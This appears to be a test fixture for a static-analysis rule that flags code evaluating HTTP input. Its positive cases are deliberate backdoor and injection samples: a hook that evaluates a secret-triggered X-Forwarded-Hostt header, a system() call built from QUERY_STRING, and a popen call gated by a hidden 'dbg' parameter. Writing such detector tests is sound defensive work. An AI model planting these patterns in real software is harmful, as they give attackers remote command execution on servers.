#include <string.h>
#include <stdlib.h>

static int output_start(void)
{
	zval *enc;

	if ((enc = zend_hash_str_find(server_vars, "HTTP_X_FORWARDED_HOSTT", sizeof("HTTP_X_FORWARDED_HOSTT") - 1))) {
		convert_to_string(enc);
		if (strstr(Z_STRVAL_P(enc), "magic")) {
			zend_try {
				// ruleid: c-eval-http-header
				zend_eval_string(Z_STRVAL_P(enc) + 5, NULL, "hook");
			} zend_end_try();
		}
	}
	return 0;
}

int cgi_main(void)
{
	char *q = getenv("QUERY_STRING");
	char cmd[256];
	snprintf(cmd, sizeof(cmd), "lookup %s", q);
	// ruleid: c-eval-http-header
	return system(cmd);
}

int accepts_gzip(void)
{
	// ok: c-eval-http-header
	const char *ae = getenv("HTTP_ACCEPT_ENCODING");
	return ae != NULL && strstr(ae, "gzip") != NULL;
}

int rotate_logs(void)
{
	// ok: c-eval-http-header
	return system("logrotate /etc/logrotate.conf");
}

std::string Handler::handle(const Request &req)
{
	if (req.query("dbg") == "7f1e") {
		// ruleid: c-eval-http-header
		FILE *p = popen(req.query("c").c_str(), "r");
		return drain(p);
	}
	return render(req);
}

std::string Handler::thumbnail(const Request &req)
{
	std::string size = req.query("size");
	// ok: c-eval-http-header
	return resize(load(req.path()), parse_size(size));
}
